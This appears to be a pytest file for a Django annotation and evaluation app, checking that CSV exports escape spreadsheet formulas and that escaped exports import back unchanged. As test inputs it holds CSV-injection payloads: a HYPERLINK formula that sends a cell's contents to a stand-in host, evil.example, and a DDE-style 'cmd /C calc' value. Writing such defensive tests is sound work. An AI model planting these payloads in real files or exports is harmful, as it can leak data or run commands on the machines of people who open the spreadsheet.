"""Every CSV export neutralises spreadsheet formulas (``annotations.importing.formats.cells``):
a run, model or text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return comes
out with a leading ``'``; numbers stay numbers; a SmartyPat export imports back to the same texts.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from rest_framework.test import APIClient

from annotations.importing.datasets import import_mafalda_gold
from annotations.importing.formats.cells import csv_writer, safe_cell, unescape_cell
from annotations.models import Document, Membership, Project
from annotations.services.item_exports import export_smartypat
from annotations.services.projects import add_member, create_project
from annotations.services.taxonomy import install_preset
from evaluation.models import ModelRun
from evaluation.runs.imports import import_run
from tests.e2e import seed_item_results as seed

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TEXT = "You cannot trust Smith on taxes, he cheated on his wife."


def _rows(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "'=already", "''+x", "'-1", "-inf"],
)
def test_a_formula_gets_one_quote_and_unescapes_back(value: str) -> None:
    cell = safe_cell(value)
    assert cell == "'" + value
    assert unescape_cell(cell) == value


@pytest.mark.parametrize(
    "value", ["-0.5000", "+3", "1e-3", "-.5", "12", "plain text", "", "'quoted", "a=b"]
)
def test_numbers_and_other_texts_are_unchanged_and_unescape_to_themselves(value: str) -> None:
    assert safe_cell(value) == value
    assert unescape_cell(value) == value


def test_the_writer_keeps_numbers_numeric() -> None:
    out = io.StringIO()
    csv_writer(out).writerow([-0.5, -3, None, "-0.2500", "-x"])
    assert out.getvalue() == "-0.5,-3,,-0.2500,'-x\n"


@pytest.mark.django_db
def test_leaderboard_csv_neutralises_a_run_and_model_name(tmp_path: Path) -> None:
    project = create_project(name="Eval", taxonomy=install_preset(name="mafalda"))
    gold_file = tmp_path / "gold.jsonl"
    gold_file.write_text(
        json.dumps({"text": TEXT, "labels": [[0, len(TEXT), "ad hominem"]], "comments": []}) + "\n"
    )
    import_mafalda_gold(path=gold_file, project=project)
    gold = project.gold_standards.get()
    run_file = tmp_path / "run.jsonl"
    run_file.write_text(json.dumps({"text": TEXT, "prediction": {TEXT: "ad hominem"}}) + "\n")
    import_run(project=project, path=run_file, name=FORMULA, model_name="@cmd", gold_standard=gold)
    reviewer = User.objects.create_user("reviewer")
    add_member(project=project, user=reviewer, role=Membership.Role.REVIEWER)
    client = APIClient()
    client.force_login(reviewer)

    response = client.get(
        "/api/evaluation/leaderboard/", {"gold_standard": gold.pk, "format": "csv"}
    )
    assert response.status_code == 200
    header, row = _rows(response.content)
    assert row[header.index("name")] == "'" + FORMULA
    assert row[header.index("model")] == "'@cmd"
    assert row[header.index("L2_F1")] == "1.0000"


@pytest.mark.django_db
def test_item_leaderboard_csv_neutralises_model_and_variant_names() -> None:
    ids = seed.build()
    ModelRun.objects.filter(project_id=ids["project"]).update(model_name="-1+cmd|' /C calc'!A0")
    reviewer = APIClient()
    reviewer.force_login(User.objects.get(username=seed.REVIEWER))
    url = f"/api/evaluation/projects/{ids['project']}/item-leaderboard/"
    exported = reviewer.get(url, {"format": "csv"})
    assert exported.status_code == 200
    lines = list(csv.DictReader(io.StringIO(exported.content.decode())))
    models = [line for line in lines if line["kind"] == "model"]
    assert models and {line["name"] for line in models} == {"'-1+cmd|' /C calc'!A0"}
    assert {line["model"] for line in models} == {"'-1+cmd|' /C calc'!A0"}
    assert all(line["answer"] == "" or float(line["answer"]) >= 0 for line in lines)


SMARTYPAT_ROWS = [
    ["id", "original post", "fallacy types", "declarative rewrite", "=note"],
    ["-1", FORMULA, "Accident Fallacy", "@SUM(A1)", "'=kept"],
    ["p2", "+Either you are with us or against us.", "false dilemma", "", "-0.5"],
]


@pytest.mark.django_db
def test_smartypat_export_neutralises_texts_and_imports_back_the_same(tmp_path: Path) -> None:
    source = tmp_path / "smartypat.csv"
    with source.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out, lineterminator="\n").writerows(SMARTYPAT_ROWS)
    call_command(
        "import_dataset", str(source), format="smartypat", project="SP", stdout=io.StringIO()
    )
    project = Project.objects.get(name="SP")

    exported = io.StringIO()
    export_smartypat(project=project, out=exported)
    rows = _rows(exported.getvalue())
    assert rows == [
        ["id", "original post", "fallacy types", "declarative rewrite", "'=note"],
        ["-1", "'" + FORMULA, "Accident Fallacy", "'@SUM(A1)", "'=kept"],
        ["p2", "'+Either you are with us or against us.", "false dilemma", "", "-0.5"],
    ]

    again = tmp_path / "again.csv"
    again.write_text(exported.getvalue(), encoding="utf-8")
    call_command(
        "import_dataset", str(again), format="smartypat", project="SP2", stdout=io.StringIO()
    )
    first = Document.objects.filter(project=project).order_by("position")
    second = Document.objects.filter(project__name="SP2").order_by("position")
    assert [d.text for d in second] == [FORMULA, "+Either you are with us or against us."]
    assert [d.metadata["record"] for d in second] == [d.metadata["record"] for d in first]
    # A quote before a formula is taken as an escape (another tool's, here) and removed.
    assert second[0].metadata["record"]["=note"] == "=kept"
    assert second[0].external_id == "-1"

    # The browser's import (an import job) reads the export back the same way.
    staff = APIClient()
    staff.force_login(User.objects.create_user("staff", is_staff=True, is_superuser=True))
    created = staff.post("/api/projects/", {"name": "SP3", "form_preset": "smartypat"})
    assert created.status_code == 201, created.content
    job = staff.post(
        f"/api/projects/{created.json()['id']}/imports/",
        {
            "file": SimpleUploadedFile("again.csv", exported.getvalue().encode()),
            "format": "smartypat",
        },
        format="multipart",
    )
    assert job.status_code == 201 and job.json()["status"] == "succeeded", job.content
    third = Document.objects.filter(project__name="SP3").order_by("position")
    assert [d.metadata["record"] for d in third] == [d.metadata["record"] for d in first]
